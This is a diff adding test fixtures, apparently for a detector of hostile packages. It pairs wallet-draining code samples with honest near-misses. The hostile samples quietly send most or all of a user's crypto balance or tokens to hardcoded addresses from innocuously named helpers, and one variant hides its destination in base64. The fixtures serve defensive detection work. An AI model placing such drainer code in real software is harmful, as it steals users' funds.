@@ -1,5 +1,5 @@
 import type { Fixture } from '../js/techniques.ts'
-import { install } from './kinds.ts'
+import { install, main } from './kinds.ts'
 
 /** One thing that hostile packages do, in several wordings, and honest ones that come close. */
 export interface Variants {
@@ -49,5 +49,52 @@ export const gitHooks: Variants = {
     'the remote is asked': hook(
       '\'#!/bin/sh\\ngit fetch origin "$(git branch --show-current)" && npm ci --prefer-offline\\n\'',
     ),
+  },
+}
+
+export const drains: Variants = {
+  name: 'payments out of what an account holds',
+  hostile: {
+    'ethers, when a helper is called': main(`
+      exports.boost = async (signer) => {
+        const all = await signer.provider.getBalance(await signer.getAddress())
+        await signer.sendTransaction({ to: '0x1111111111111111111111111111111111111112', value: (all * 95n) / 100n })
+      }`),
+    'all tokens of a contract': main(`
+      const { Contract } = require('ethers'); const sink = '0x' + '22'.repeat(20)
+      module.exports = class Pool { async join(token, owner) { const c = new Contract(token, [], owner); const n = await c.balanceOf(owner.address); return c.transfer(sink, n) } }`),
+    'viem, read by one file and sent by another': main(
+      `const { left } = require('./left'); const w = 'MHgzMzMzMzMzMzMzMzMzMzMzMzMzMzMzMzMzMzMzMzMzMzMzMzMzMzMz'
+      exports.swap = async (client) => client.sendTransaction({ to: Buffer.from(w, 'base64').toString(), value: (await left(client)) - 21000n })`,
+      { 'left.js': `exports.left = (client) => client.getBalance({ address: client.account.address })` },
+    ),
+    'tokens of Solana': main(`
+      import { getAccount, createTransferInstruction } from '@solana/spl-token'
+      import { PublicKey } from '@solana/web3.js'
+      const vault = new PublicKey('9xQeWvG816bUx9EPjHmaT23yvVM2ZWbrrpZb9PusVFin')
+      export async function close(connection, owner, account) {
+        const { value } = await connection.getTokenAccountBalance(account)
+        return createTransferInstruction(account, vault, owner, BigInt(value.amount))
+      }`),
+    'the wallet of the page, by its own requests': main(`
+      export async function connect() {
+        const [from] = await window.ethereum.request({ method: 'eth_requestAccounts' })
+        const value = await provider.send('eth_getBalance', [from, 'latest'])
+        return window.ethereum.request({ method: 'eth_sendTransaction', params: [{ from, to: '0x4444444444444444444444444444444444444444', value }] })
+      }`),
+  },
+  honest: {
+    'a sweeper whose caller names the receiver': main(`
+      exports.sweep = async (wallet, to) => { const all = await wallet.provider.getBalance(wallet.address); return wallet.sendTransaction({ to, value: all - 21000n * 10n ** 9n }) }`),
+    'a fee of its own, of what is traded': main(`
+      const { SystemProgram, PublicKey } = require('@solana/web3.js'); const fees = new PublicKey('9xQeWvG816bUx9EPjHmaT23yvVM2ZWbrrpZb9PusVFin')
+      exports.swap = (tx, payer, lamports) => tx.add(SystemProgram.transfer({ fromPubkey: payer, toPubkey: fees, lamports: Math.floor(lamports * 0.003) }))`),
+    'tokens are burnt': main(`
+      exports.burnAll = async (token, owner) => token.transfer('0x000000000000000000000000000000000000dEaD', await token.balanceOf(owner))`),
+    'a contract may take them': main(`
+      const router = '0x5555555555555555555555555555555555555555'
+      exports.allow = async (token, owner) => token.approve(router, await token.balanceOf(owner))`),
+    'it is only looked at': main(`
+      exports.watch = async (provider) => { const n = await provider.getBalance('0x6666666666666666666666666666666666666666'); return n > 0n ? 'open' : 'empty' }`),
   },
 }
